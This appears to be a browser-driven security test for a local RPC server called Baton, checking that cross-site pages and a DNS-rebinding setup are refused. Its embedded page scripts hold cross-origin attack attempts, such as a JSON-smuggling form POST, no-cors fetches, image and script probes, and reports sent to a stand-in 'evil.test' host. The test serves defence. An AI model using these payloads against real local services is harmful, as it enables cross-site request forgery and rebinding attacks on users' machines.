/** The gate for browsers, before a real one: pages of others get nothing, a link opens the page, and who is allowed is served. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createLogger } from '../../src/base/log.js';
import { createHandlers } from '../../src/rpc/handlers.js';
import { startHttpServer } from '../../src/rpc/http.js';
import type { RpcServer } from '../../src/rpc/listener.js';
import { chromium, openBrowser, type Browser } from '../support/events_browser.js';
import { freePorts } from '../support/free_ports.js';
import { PageServer, Recorder, type Exchange } from '../support/gate_pages.js';
import { fakeJobs, fakePipelines, FakeStream, OPENED, sampleRun } from '../support/rpc_fake.js';
import { waitFor } from '../support/wait.js';

const noBrowser = 'no Chromium on this machine (apt-get install chromium)';
const skip = chromium === undefined && process.env['BATON_REQUIRE_ALL'] !== '1' ? noBrowser : false;

/** A browser of a busy machine takes long to start. */
const PAGE_TIMEOUT_MS = 60_000;

/** A server that notes which of its handlers were reached. */
async function serve(calls: string[], origins: readonly string[], port = 0): Promise<RpcServer> {
  const called = <T>(name: string, answer: T): Promise<T> => {
    calls.push(name);
    return Promise.resolve(answer);
  };
  const jobs = fakeJobs({
    createRun: () => called('createRun', sampleRun()),
    getRun: () => called('getRun', sampleRun()),
    watchRuns: () => called('watchRuns', new FakeStream().push(OPENED)),
  });
  return startHttpServer({
    handlers: createHandlers(jobs, fakePipelines()),
    listen: { host: '127.0.0.1', port },
    gate: { hosts: new Set(), origins: new Set(origins) },
    ready: () => Promise.resolve({ ok: true, detail: 'ready' }),
    log: createLogger('silent'),
    routes: (request, response) => {
      if (request.url !== '/metrics') return false;
      calls.push('routes');
      response.end();
      return true;
    },
  });
}

/** What every page has: it tries things by name, one after the other, and says what came of them. */
const LIBRARY = `
  const RPC = '/baton.v1.JobService/';
  const QUERY = '?encoding=json&message=%7B%7D';
  const settled = (element, add) => new Promise((done) => {
    element.onload = () => done('load');
    element.onerror = () => done('error');
    add(element);
  });
  const report = (of, results) =>
    fetch('http://evil.test:' + PAGES + '/report?of=' + of, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
  const tryAll = async (of, attempts) => {
    const results = {};
    for (const [name, attempt] of Object.entries(attempts))
      results[name] = await Promise.resolve().then(attempt).then(String, () => 'blocked');
    await report(of, results);
  };
  const json = { 'content-type': 'application/json', 'connect-protocol-version': '1' };
  const frame = Uint8Array.of(0, 0, 0, 0, 0);
`;

/** What a page may try without anybody's leave. */
const ATTACK = `
  const B = 'http://localhost:' + BATON;
  const attacks = {
    'a POST of JSON': () => fetch(B + RPC + 'CreateRun', { method: 'POST', headers: json, body: '{}' }),
    'a simple POST': () => fetch(B + RPC + 'CreateRun', { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => r.type),
    'a GET': () => fetch(B + RPC + 'GetRun' + QUERY),
    'a GET without CORS': () => fetch(B + RPC + 'GetRun' + QUERY, { mode: 'no-cors' }).then((r) => r.type),
    'an image': () => settled(new Image(), (image) => { image.src = B + RPC + 'GetRun' + QUERY; }),
    'a script': () => settled(document.createElement('script'), (script) => { script.src = B + '/v1/events'; document.head.append(script); }),
    'a form': () => new Promise((done) => {
      document.body.innerHTML = '<iframe name=f></iframe><form target=f method=POST enctype=text/plain action="' + B + RPC + 'CreateRun"><input name="{&quot;a" value="&quot;:1}"></form>';
      document.querySelector('iframe').onload = () => done('load');
      document.querySelector('form').submit();
    }),
    'a frame': () => settled(document.createElement('iframe'), (frame) => { frame.src = B + '/'; document.body.append(frame); }),
    'the figures': () => fetch(B + '/metrics', { mode: 'no-cors' }).then((r) => r.type),
    'an EventSource': () => new Promise((done) => {
      const source = new EventSource(B + '/v1/events');
      source.onopen = () => done('open');
      source.onerror = () => { source.close(); done('error'); };
    }),
    'gRPC-Web': () => fetch(B + RPC + 'GetRun', { method: 'POST', headers: { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' }, body: frame }),
  };
`;

/** What connect-web and a page of one's own do, from an origin that may. */
const ALLOWED = `
  const B = 'http://localhost:' + OPEN_BATON;
  const firstChunk = async (response) => {
    const reader = response.body.getReader();
    const { value } = await reader.read();
    reader.cancel();
    return new TextDecoder().decode(value);
  };
  const allowed = {
    'Connect': () => fetch(B + RPC + 'CreateRun', { method: 'POST', headers: json, body: '{}' }).then((r) => r.json()).then((a) => a.run.status),
    'Connect GET': () => fetch(B + RPC + 'GetRun' + QUERY).then((r) => r.json()).then((a) => a.run.status),
    'gRPC-Web': () => fetch(B + RPC + 'GetRun', {
      method: 'POST', body: frame,
      headers: { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1', 'x-user-agent': 'test', 'grpc-timeout': '5S' },
    }).then((r) => r.text()).then((text) => /grpc-status: *(\\d+)/.exec(text)[1]),
    'an unknown method': () => fetch(B + RPC + 'Nothing', {
      method: 'POST', body: frame, headers: { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' },
    }).then((r) => r.headers.get('grpc-status')),
    'a Connect stream': () => fetch(B + RPC + 'WatchRuns', {
      method: 'POST', headers: { ...json, 'content-type': 'application/connect+json' }, body: '\\0\\0\\0\\0\\x02{}',
    }).then(firstChunk).then((text) => /OPENED/.exec(text)[0]),
    'a gRPC-Web stream': () => fetch(B + RPC + 'WatchRuns', {
      method: 'POST', body: frame, headers: { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' },
    }).then(firstChunk).then((text) => text.length > 5),
    'an EventSource': () => new Promise((done) => {
      const source = new EventSource(B + '/v1/events');
      source.addEventListener('opened', () => { source.close(); done('opened'); });
      source.onerror = () => { source.close(); done('error'); };
    }),
    'an image': () => settled(new Image(), (image) => { image.src = B + RPC + 'GetRun' + QUERY; }),
  };
`;

/** Its name led to its own server when it was loaded, and leads to Baton from then on. */
const REBOUND = `
  const seen = async (url, init) => { const r = await fetch(url, init); return r.status + ' ' + (await r.text()).includes('BATON_HTTP_HOSTS'); };
  const again = () => new Promise((done) => setTimeout(done, 50)).then(() => fetch('/rebound')).then((r) => r.status === 200 ? again() : r.status, again);
  const rebound = {
    'the name leads to Baton': again,
    'a GET': () => seen(RPC + 'GetRun' + QUERY),
    'a POST of JSON': () => seen(RPC + 'CreateRun', { method: 'POST', headers: json, body: '{}' }),
    'the stream': () => seen('/v1/events'),
    'the figures': () => seen('/metrics'),
    'the page': () => seen('/'),
  };
`;

test('a browser', { skip, timeout: 240_000 }, async (t) => {
  assert.ok(chromium !== undefined, noBrowser);
  const [closedCalls, openCalls, reboundCalls]: [string[], string[], string[]] = [[], [], []];
  const ports: Record<string, number> = {};
  const page = (script: string) => (): string => {
    const constants = Object.entries(ports).map(([name, port]) => `const ${name} = ${port};`);
    return `<!doctype html><body><script>${constants.join('')}${LIBRARY}${script}</script>`;
  };
  const pages = await new PageServer({
    '/attack': page(`${ATTACK} tryAll(location.hostname, attacks);`),
    '/allowed': page(`${ALLOWED} tryAll('allowed', allowed);`),
    '/link':
      page(`document.body.innerHTML = '<a href="http://localhost:' + BATON + location.hash.slice(1) + '">x</a>';
      document.querySelector('a').click();`),
  }).start();
  const reboundPages = new PageServer({
    '/rebound': page(`${REBOUND} report('loaded', {}).then(() => tryAll('rebound', rebound));`),
  });
  const [reboundPort = 0] = await freePorts(1);
  await reboundPages.start(reboundPort);
  const closed = await serve(closedCalls, []);
  const open = await serve(openCalls, [`http://localhost:${pages.port}`]);
  const recorder = await new Recorder().start(closed.port);
  Object.assign(ports, { PAGES: pages.port, BATON: recorder.port, OPEN_BATON: open.port });
  const others: { close(): Promise<void> }[] = [closed, open];

  const browse = async (url: string, isDone: () => boolean): Promise<void> => {
    const browser: Browser = await openBrowser(chromium!, url, [
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
    ]);
    try {
      await waitFor(isDone, `the page ${url}`, PAGE_TIMEOUT_MS);
    } finally {
      await browser.close();
    }
  };
  const exchanged = (what: string): Exchange[] => recorder.exchanges.filter((one) => one.what === what);

  try {
    for (const host of ['evil.test', 'localhost']) {
      await t.test(`a page of ${host} at another port gets nothing, by whatever it tries`, async () => {
        recorder.exchanges.length = 0;
        await browse(`http://${host}:${pages.port}/attack`, () => pages.reports.has(host));
        assert.deepEqual(pages.reports.get(host), {
          'a POST of JSON': 'blocked',
          'a simple POST': 'opaque',
          'a GET': 'blocked',
          'a GET without CORS': 'opaque',
          'an image': 'error',
          'a script': 'error',
          'a form': 'load',
          'a frame': 'load',
          'the figures': 'opaque',
          'an EventSource': 'error',
          'gRPC-Web': 'blocked',
        });
        // Each has come as far as the gate, and the browser has said from where.
        assert.ok(recorder.exchanges.length >= 11, `only ${recorder.exchanges.length} requests came`);
        const site = host === 'localhost' ? 'same-site' : 'cross-site';
        for (const { what, status, headers } of recorder.exchanges)
          assert.deepEqual([status, headers['sec-fetch-site']], [403, site], what);
        assert.deepEqual(closedCalls, []);
      });
    }

    await t.test('a link from elsewhere opens the page, and not the stream of changes', async () => {
      recorder.exchanges.length = 0;
      await browse(`http://evil.test:${pages.port}/link#/`, () => exchanged('GET /').length > 0);
      const [opened] = exchanged('GET /');
      assert.deepEqual(
        [opened?.status, opened?.headers['sec-fetch-site'], opened?.headers['sec-fetch-mode']],
        [200, 'cross-site', 'navigate'],
      );
      await browse(
        `http://evil.test:${pages.port}/link#/v1/events`,
        () => exchanged('GET /v1/events').length > 0,
      );
      assert.equal(exchanged('GET /v1/events')[0]?.status, 403);
      assert.deepEqual(closedCalls, []);
      // Typed in by its user, it is shown.
      await browse(`http://localhost:${recorder.port}/v1/events`, () => closedCalls.length > 0);
      assert.deepEqual(closedCalls, ['watchRuns']);
    });

    await t.test('a name that was made to lead here is told that it is not ours', async () => {
      const isDone = (): boolean => {
        // The page is there; from now on its name leads to Baton.
        if (pages.reports.delete('loaded')) {
          void reboundPages
            .stop()
            .then(() => serve(reboundCalls, [], reboundPort))
            .then((server) => others.push(server));
        }
        return pages.reports.has('rebound');
      };
      await browse(`http://evil.test:${reboundPort}/rebound`, isDone);
      assert.deepEqual(pages.reports.get('rebound'), {
        'the name leads to Baton': '421',
        'a GET': '421 true',
        'a POST of JSON': '421 true',
        'the stream': '421 true',
        'the figures': '421 true',
        'the page': '421 true',
      });
      assert.deepEqual(reboundCalls, []);
    });

    await t.test('a page of an allowed origin is served, streams included', async () => {
      await browse(`http://localhost:${pages.port}/allowed`, () => pages.reports.has('allowed'));
      assert.deepEqual(pages.reports.get('allowed'), {
        Connect: 'running',
        'Connect GET': 'running',
        'gRPC-Web': '0',
        'an unknown method': '12',
        'a Connect stream': 'OPENED',
        'a gRPC-Web stream': 'true',
        'an EventSource': 'opened',
        // It says not where it is from.
        'an image': 'error',
      });
      assert.deepEqual(openCalls, ['createRun', 'getRun', 'getRun', 'watchRuns', 'watchRuns', 'watchRuns']);
    });
  } finally {
    await recorder.stop();
    await Promise.all([pages.stop(), reboundPages.stop(), ...others.map((server) => server.close())]);
  }
});
